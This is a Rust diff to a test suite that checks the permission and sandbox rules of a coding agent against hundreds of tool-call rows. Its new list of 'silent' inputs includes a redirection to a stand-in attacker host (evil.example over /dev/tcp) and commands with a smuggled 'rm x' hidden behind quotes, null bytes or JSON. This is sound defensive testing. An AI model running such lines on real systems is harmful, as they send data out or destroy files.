@@ -15,11 +15,12 @@ use std::path::{Path, PathBuf};
 use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
 
+use opencode_rs::permission::Policy;
 use opencode_rs::request::{Effect, Preset};
 use serde_json::{Value, json};
 
 use super::canaries::{Canaries, Changes, Entry, Trace, changes, tree};
-use super::table::{Case, Ground, cases, ground, ground_in};
+use super::table::{Case, Ground, cases, ground, ground_in, tables};
 use crate::support::{Sandbox, empty_registry};
 
 /// How many calls one engine is given: each makes the next request longer.
@@ -57,6 +58,51 @@ const OTHER_TOOLS: [&str; 4] = ["fake_add", "list_mcp_resources", "made_up", "re
 /// Rows that a plain bash does not run: it would look for a host.
 const NOT_RUN_PLAINLY: [&str; 1] = ["/dev/tcp/"];
 
+/// Lines that leave no trace when a plain bash runs them; that they did not run is only seen in the result.
+const SILENT: [&str; 32] = [
+    // Nothing at all, or what no shell takes.
+    "",
+    "   \n",
+    "# rm x",
+    "ls (",
+    "ls \"",
+    "ls $(",
+    "ls ( rm x",
+    "echo \"; rm x",
+    "git status \0; touch x",
+    "{\"command\":[\"rm\",\"x\"]}",
+    "{\"command\":\"ls\",\"workdir\":[\"/etc\"]}",
+    // What they would run has no name here, or a name that is the machine's own.
+    "$x status",
+    "nice --weird $x",
+    "eval \"$x\"",
+    "sh -c \"$x\"",
+    "/usr/bin/git status",
+    "builtin rm x",
+    ". ./x.sh",
+    "source x.sh",
+    "bash",
+    // A redirection that fails, or a host that is not looked for.
+    "ls < $x",
+    "echo a > $x",
+    "ls > /dev/tcp/evil.example/80",
+    // What the shell does by itself.
+    "alias l='rm x'",
+    "[[ $x -eq 1 ]] && ls",
+    "cd - && ls",
+    "echo $((x))",
+    "echo ${a[x]}",
+    "echo ${x@P}",
+    // Placeholders that stay what they are.
+    "echo rm | xargs -I{} {} x",
+    "echo rm | xargs -i {} x",
+    "> out rm x",
+];
+
+/// Rows that are judged to be allowed, and that the engine asks about itself: it does not follow `cd`, and takes
+/// `../a.txt` for a place outside. Whether that is allowed is decided anew, and nobody is there to say so.
+const STRICTER: [&str; 1] = ["cd sub && cat ../a.txt"];
+
 /// A run of the program: rows whose rules do not get in each other's way.
 struct Pack {
     preset: Preset,
@@ -86,11 +132,14 @@ fn packs(ground: &Ground, cases: Vec<Case>) -> Vec<Pack> {
             let policy = ground.policy(unit.preset, &rules);
             let fits = pack.preset == unit.preset
                 && pack.cases.len() + unit.cases.len() <= MOST_CALLS
-                && unit
-                    .cases
-                    .iter()
-                    .chain(&pack.cases)
-                    .all(|case| case.judged_by(&policy, ground).effect == case.expect);
+                && [&unit, &*pack].iter().all(|part| {
+                    let own = ground.policy(part.preset, &part.rules);
+                    part.cases.iter().all(|case| {
+                        // A tool that is not there proves nothing about a rule that only denies some of its calls.
+                        case.judged_by(&policy, ground).effect == case.expect
+                            && is_removed(&policy, case) == is_removed(&own, case)
+                    })
+                });
             fits.then_some((pack, rules))
         });
         match fitting {
@@ -108,10 +157,38 @@ fn packs(ground: &Ground, cases: Vec<Case>) -> Vec<Pack> {
     packs
 }
 
+/// Whether the tool of a row is denied altogether.
+fn is_removed(policy: &Policy, case: &Case) -> bool {
+    let name = match case.tool.as_str() {
+        "write" | "apply_patch" => "edit",
+        name => name,
+    };
+    policy
+        .removed_tools()
+        .iter()
+        .any(|removed| removed == name || removed.strip_suffix('*').is_some_and(|start| name.starts_with(start)))
+}
+
 fn together(rules: &[String], more: &[String]) -> Vec<String> {
     let mut all = rules.to_vec();
     all.extend(more.iter().filter(|rule| !rules.contains(rule)).cloned());
     all
+}
+
+/// The engine reads the name of a tool in capitals as the tool that it knows, before anybody is asked: `BASH` is `bash`.
+fn as_called(case: Case, ground: &Ground) -> Case {
+    if case.tool != "BASH" {
+        return case;
+    }
+    let case = Case {
+        tool: "bash".to_owned(),
+        ..case
+    };
+    let policy = ground.policy(case.preset, &case.rules);
+    Case {
+        expect: case.judged_by(&policy, ground).effect,
+        ..case
+    }
 }
 
 /// The arguments as a model sends them: what the tool needs besides what the row is about.
@@ -182,6 +259,16 @@ fn effects(canaries: &Canaries, case: &Case) -> Effects {
     effects
 }
 
+/// What comes of each row by its name.
+fn plainly(cases: &[Case]) -> BTreeMap<String, Effects> {
+    let place = tempfile::tempdir().unwrap();
+    let canaries = Canaries::new(place.path().join("canaries"));
+    cases
+        .iter()
+        .map(|case| (case.name.clone(), effects(&canaries, case)))
+        .collect()
+}
+
 /// Stands where a proxy is: writes down where anybody wants to go, and lets nobody through.
 struct Outside {
     address: String,
@@ -250,6 +337,16 @@ fn script(pack: &Pack, ground: &Ground) -> String {
     script + "[[reply]]\ntext = \"Done.\"\n"
 }
 
+/// Rules as the user's settings hold them.
+fn settings(rules: impl Iterator<Item = String>) -> String {
+    let mut lists: BTreeMap<String, Vec<String>> = BTreeMap::new();
+    for rule in rules {
+        let (effect, pattern) = rule.split_once(' ').unwrap();
+        lists.entry(effect.to_owned()).or_default().push(pattern.to_owned());
+    }
+    toml::to_string(&lists).unwrap()
+}
+
 /// What a pack showed.
 #[derive(Default)]
 struct Seen {
@@ -257,8 +354,6 @@ struct Seen {
     refused: usize,
     /// Of those refused, how many leave traces where nobody refuses them.
     would_show: usize,
-    /// The others.
-    silent: Vec<String>,
     wrong: Vec<String>,
     calls_of_engines: Vec<(usize, Duration)>,
 }
@@ -268,33 +363,34 @@ impl Seen {
         self.allowed += other.allowed;
         self.refused += other.refused;
         self.would_show += other.would_show;
-        self.silent.extend(other.silent);
         self.wrong.extend(other.wrong);
         self.calls_of_engines.extend(other.calls_of_engines);
     }
 }
 
 /// Runs a pack and compares everything.
-fn run(pack: &Pack, effects: &BTreeMap<String, Effects>) -> Seen {
+fn run(pack: &Pack) -> Seen {
+    let effects = plainly(&pack.cases);
     let sandbox = Sandbox::new();
     let ground = ground_in(&sandbox.path(""));
     let canaries = Canaries::new(ground.root.join("canaries"));
     canaries.settle(&ground);
     install_marks(&sandbox, &canaries);
     let outside = Outside::new();
-    let extra = ground.root.join("extra");
-    let mut flags: Vec<String> = ["--no-input", "--trust", "--output-format=json", "--add-dir"]
+    let mut flags = ["--no-input", "--trust", "--output-format=json"]
         .map(str::to_owned)
         .to_vec();
-    flags.push(extra.to_str().unwrap().to_owned());
-    match pack.preset {
-        Preset::AutoTools => flags.push("--auto-tools".to_owned()),
-        Preset::LookOnly => {}
-        Preset::ReadOnly => flags.extend(["--auto-tools", "--read-only"].map(str::to_owned)),
+    let rules = pack.rules.iter().map(|rule| ground.fill(rule));
+    if pack.preset == Preset::LookOnly {
+        // Rules for a plain prompt can only come from a file: on the command line they are a mistake, and are named one.
+        sandbox.write("home/.config/opencode-rs/config.toml", settings(rules));
+    } else {
+        flags.push("--auto-tools".to_owned());
+        flags.push(format!("--add-dir={}", ground.root.join("extra").display()));
+        flags.extend(rules.map(|rule| format!("--{}", rule.replacen(' ', "=", 1))));
     }
-    for rule in &pack.rules {
-        let (effect, pattern) = rule.split_once(' ').unwrap();
-        flags.push(format!("--{effect}={}", ground.fill(pattern)));
+    if pack.preset == Preset::ReadOnly {
+        flags.push("--read-only".to_owned());
     }
     flags.push("Try everything".to_owned());
     let before = tree(&ground, &OURS);
@@ -324,6 +420,12 @@ fn run(pack: &Pack, effects: &BTreeMap<String, Effects>) -> Seen {
         if case.expect == Effect::Allow {
             seen.allowed += 1;
             seen.wrong.extend(outcome.wrong_for_allowed(case));
+            if STRICTER.contains(&case.input.as_str()) {
+                if !left.is_empty() {
+                    seen.wrong.push(format!("{case:?} ran: {left:?}"));
+                }
+                continue;
+            }
             if sorted(&left) != sorted(&effects.traces) {
                 seen.wrong
                     .push(format!("{case:?} left {left:?} instead of {:?}", effects.traces));
@@ -341,7 +443,10 @@ fn run(pack: &Pack, effects: &BTreeMap<String, Effects>) -> Seen {
                 seen.wrong.push(format!("{case:?} ran: {left:?}"));
             }
             if effects.traces.is_empty() && effects.changes.is_empty() {
-                seen.silent.push(format!("{} {:?}", case.tool, case.input));
+                if case.tool == "bash" && !SILENT.contains(&case.input.as_str()) {
+                    seen.wrong
+                        .push(format!("{case:?} would leave no trace, and is not known to be silent"));
+                }
             } else {
                 seen.would_show += 1;
             }
@@ -419,9 +524,16 @@ impl<'a> Outcome<'a> {
         let fine = match self.calls.as_slice() {
             [call] if case.tool == "webfetch" => call["tool"] == "webfetch",
             [call] if offered => call["status"] == "completed" && call["tool"] == case.tool.as_str(),
-            [call] => call["tool"] == "invalid",
+            [call] => is_not_there(call),
             _ => false,
         };
+        let stricter = STRICTER.contains(&case.input.as_str());
+        if stricter {
+            return self.wrong_for_refused(&Case {
+                expect: Effect::Ask,
+                ..case.clone()
+            });
+        }
         (!fine || !self.denied.is_empty())
             .then(|| format!("{case:?} is allowed and yet {:?}, {:?}", self.calls, self.denied))
     }
@@ -433,9 +545,12 @@ impl<'a> Outcome<'a> {
         };
         let fine = match (self.calls.as_slice(), self.denied.as_slice()) {
             // A tool that is denied altogether, or that nobody has, is not there.
-            ([call], []) => call["tool"] == "invalid",
+            // In a plain prompt some calls are refused by the engine's own rules, which are ours there.
+            ([call], []) => is_not_there(call) || case.preset == Preset::LookOnly && is_refused_by_engine(call),
             ([call], [denied]) => {
-                call["status"] == "error" && denied["by"].as_str().is_some_and(|name| by.contains(&name))
+                call["status"] == "error"
+                    && call["output"].is_null()
+                    && denied["by"].as_str().is_some_and(|name| by.contains(&name))
             }
             _ => false,
         };
@@ -443,40 +558,37 @@ impl<'a> Outcome<'a> {
     }
 }
 
-/// Runs all rows of a table, two engines at a time.
-fn run_table(table: &str) -> Seen {
+#[test]
+fn of_six_hundred_rows_of_the_tables_only_those_that_are_allowed_run() {
     let began = Instant::now();
     let ground = ground();
-    let cases: Vec<Case> = cases(table)
-        .into_iter()
-        .filter(|case| !NOT_CALLED.contains(&case.tool.as_str()))
-        .collect();
-    let place = tempfile::tempdir().unwrap();
-    let canaries = Canaries::new(place.path().join("canaries"));
-    let effects: BTreeMap<String, Effects> = cases
+    let cases: Vec<Case> = tables()
         .iter()
-        .map(|case| (case.name.clone(), effects(&canaries, case)))
+        .flat_map(|table| cases(table))
+        .filter(|case| !NOT_CALLED.contains(&case.tool.as_str()))
+        .map(|case| as_called(case, &ground))
         .collect();
-    let plain = began.elapsed();
-    canaries.settle(&ground);
     let packs = packs(&ground, cases);
     let packed = began.elapsed();
     let mut seen = Seen::default();
+    // Each waits until one more engine may run.
     std::thread::scope(|scope| {
-        let runs: Vec<_> = packs.iter().map(|pack| scope.spawn(|| run(pack, &effects))).collect();
+        let runs: Vec<_> = packs.iter().map(|pack| scope.spawn(|| run(pack))).collect();
         for run in runs {
-            seen.add(run.join().unwrap());
+            match run.join() {
+                Ok(run) => seen.add(run),
+                Err(_) => seen.wrong.push("a run failed; see above".to_owned()),
+            }
         }
     });
     println!(
-        "{table}: {} allowed, {} refused, {} of which would have left traces, by {} engines in {:?} (plain {plain:?}, packed {packed:?})\n{:?}\nsilent: {:#?}",
+        "{} allowed, {} refused, {} of which would have left traces, by {} engines in {:?} (packed {packed:?})\n{:?}",
         seen.allowed,
         seen.refused,
         seen.would_show,
         packs.len(),
         began.elapsed(),
         seen.calls_of_engines,
-        seen.silent
     );
     assert!(
         seen.wrong.is_empty(),
@@ -484,29 +596,18 @@ fn run_table(table: &str) -> Seen {
         seen.wrong.len(),
         seen.wrong.join("\n")
     );
-    seen
+    assert!(seen.allowed >= 120 && seen.refused >= 500);
 }
 
-#[test]
-fn of_four_hundred_commands_only_those_that_are_allowed_run() {
-    let seen = run_table("commands");
-    assert!(seen.allowed >= 70 && seen.refused >= 330);
+/// Whether a call met no tool: the engine calls `invalid` instead, and fails where that is not there either.
+fn is_not_there(call: &Value) -> bool {
+    let error = call["error"].as_str().unwrap_or_default();
+    call["tool"] == "invalid" || error.starts_with("Model tried to call unavailable tool 'invalid'")
 }
 
-#[test]
-fn of_a_hundred_and_thirty_files_only_those_that_are_allowed_are_touched() {
-    let seen = run_table("paths");
-    assert!(seen.allowed >= 30 && seen.refused >= 100);
-}
-
-#[test]
-fn no_way_out_of_the_directory_is_open() {
-    let seen = run_table("escapes");
-    assert!(seen.allowed >= 3 && seen.refused >= 45);
-}
-
-#[test]
-fn other_tools_run_only_where_they_are_allowed() {
-    let seen = run_table("tools");
-    assert!(seen.allowed >= 15 && seen.refused >= 25);
+fn is_refused_by_engine(call: &Value) -> bool {
+    let error = call["error"].as_str().unwrap_or_default();
+    call["status"] == "error"
+        && call["output"].is_null()
+        && error.starts_with("The user has specified a rule which prevents you")
 }
